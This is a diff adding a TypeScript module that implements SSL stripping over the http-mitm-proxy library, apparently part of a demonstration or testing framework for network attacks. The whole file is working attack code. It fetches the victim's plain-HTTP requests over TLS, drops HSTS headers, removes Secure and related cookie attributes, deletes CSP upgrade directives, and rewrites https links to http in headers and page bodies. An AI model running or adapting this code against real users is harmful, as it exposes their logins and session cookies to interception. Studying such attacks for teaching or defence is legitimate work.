@@ -1,0 +1,123 @@
+import type { IncomingHttpHeaders, OutgoingHttpHeaders } from 'node:http';
+
+import type { IContext } from 'http-mitm-proxy';
+
+import type { Attack, Scene } from './attack.ts';
+import { dropHeader } from './exchange.ts';
+import { rewriteBody } from './rewrite.ts';
+
+/**
+ * SSL stripping (Marlinspike, 2009; the threat of RFC 6797, section 2.3.1): the victim's requests in
+ * clear are fetched from the bank over TLS, and whatever in the answers would lead the victim to TLS is
+ * taken out. TLS that comes all the same is passed on sealed. Cookies with a `__Host-` or `__Secure-`
+ * name and bodies in a content coding that was not asked for are left as they are.
+ */
+export const strip: Attack = {
+  tls: 'tunnel',
+  fetches: (logical) => (logical.endsWith(':80') ? logical.replace(/80$/, '443') : undefined),
+  request: (exchange, scene) => {
+    const headers = exchange.proxyToServerRequestOptions?.headers;
+    if (headers !== undefined && scene.fetched !== scene.logical) upgradeRequest(headers, scene);
+  },
+  response: (exchange, scene) => {
+    if (scene.fetched !== scene.logical) downgradeResponse(exchange, scene);
+  },
+};
+
+/** The bank is to see a request as its own pages over TLS would make it, and to answer it in no coding. */
+function upgradeRequest(headers: OutgoingHttpHeaders, { logical }: Scene): void {
+  const origin = new RegExp(`^http://${escaped(nameOf(logical))}(:80)?(?=/|$)`, 'i');
+  for (const [name, value] of Object.entries(headers)) {
+    const lower = name.toLowerCase();
+    if (lower === 'accept-encoding') headers[name] = 'identity';
+    else if ((lower === 'origin' || lower === 'referer') && typeof value === 'string')
+      headers[name] = value.replace(origin, `https://${nameOf(logical)}`);
+    else if (lower === 'host' && typeof value === 'string') headers[name] = value.replace(/:(80|443)$/, '');
+  }
+}
+
+function downgradeResponse(exchange: IContext, scene: Scene): void {
+  const response = exchange.serverToProxyResponse;
+  if (response === undefined) return;
+  const { headers } = response;
+  const before = Object.keys(headers).length;
+  dropHeader(headers, 'strict-transport-security');
+  const hsts = Object.keys(headers).length < before;
+
+  let links = 0;
+  const address = new RegExp(
+    String.raw`https:(\\?/\\?/)${escaped(nameOf(scene.logical))}(?::443)?(?![\w.:-])`,
+    'gi',
+  );
+  const downgrade = (text: string): string =>
+    text.replace(address, (_found, slashes: string) => {
+      links += 1;
+      return `http:${slashes}${nameOf(scene.logical)}`;
+    });
+  let cookies = 0;
+  const unsecured = (line: string): string => {
+    const open = line.replaceAll(NEEDS_TLS, '');
+    if (open.length < line.length) cookies += 1;
+    return open;
+  };
+  for (const [name, value] of Object.entries(headers)) {
+    const lower = name.toLowerCase();
+    if (lower === 'set-cookie') headers[name] = each(value, unsecured);
+    else if (lower === 'content-security-policy')
+      headers[name] = each(value, (line) => downgrade(line.replaceAll(UPGRADES, '')));
+    else headers[name] = each(value, downgrade);
+  }
+
+  const { method } = exchange.clientToProxyRequest;
+  const page = nameOf(scene.logical) + (exchange.proxyToServerRequestOptions?.path ?? '/');
+  const report = (): void => {
+    const [asked, fetched] = [`http://${page}`, `https://${page}`];
+    scene.report({ type: 'tls-stripped', asked, fetched, links, cookies, hsts });
+  };
+  if (method === 'HEAD' || !hasText(response.statusCode ?? 0, headers)) {
+    report();
+    return;
+  }
+  exchange.addResponseFilter(
+    rewriteBody((text) => {
+      const stripped = downgrade(text);
+      report();
+      return stripped;
+    }),
+  );
+}
+
+/** Attributes that a browser takes from an answer over TLS only (RFC 6265bis, section 5.7). */
+const NEEDS_TLS = /;\s*(?:secure|samesite=none|partitioned)\s*(?=;|$)/gi;
+
+/** Directives that would lead a page's links or its pictures to TLS. */
+const UPGRADES = /(^|;)\s*(?:upgrade-insecure-requests|block-all-mixed-content)\s*(?=;|$)/gi;
+
+const TEXT = /^(?:text\/|application\/(?:javascript|json|xml|xhtml\+xml)\b)/i;
+
+/** Whether an answer has a body, and one in which addresses can be read. */
+function hasText(status: number, headers: IncomingHttpHeaders): boolean {
+  const coding = one(headers, 'content-encoding') ?? 'identity';
+  const bodiless = status < 200 || status === 204 || status === 304;
+  return !bodiless && coding.toLowerCase() === 'identity' && TEXT.test(one(headers, 'content-type') ?? '');
+}
+
+function one(headers: IncomingHttpHeaders, name: string): string | undefined {
+  const [, value] = Object.entries(headers).find(([key]) => key.toLowerCase() === name) ?? [];
+  return value?.toString();
+}
+
+function each(
+  value: string | string[] | undefined,
+  change: (line: string) => string,
+): string | string[] | undefined {
+  return typeof value === 'string' ? change(value) : value?.map(change);
+}
+
+function nameOf(logical: string): string {
+  return logical.replace(/:\d+$/, '');
+}
+
+function escaped(name: string): string {
+  return name.replaceAll('.', String.raw`\.`);
+}
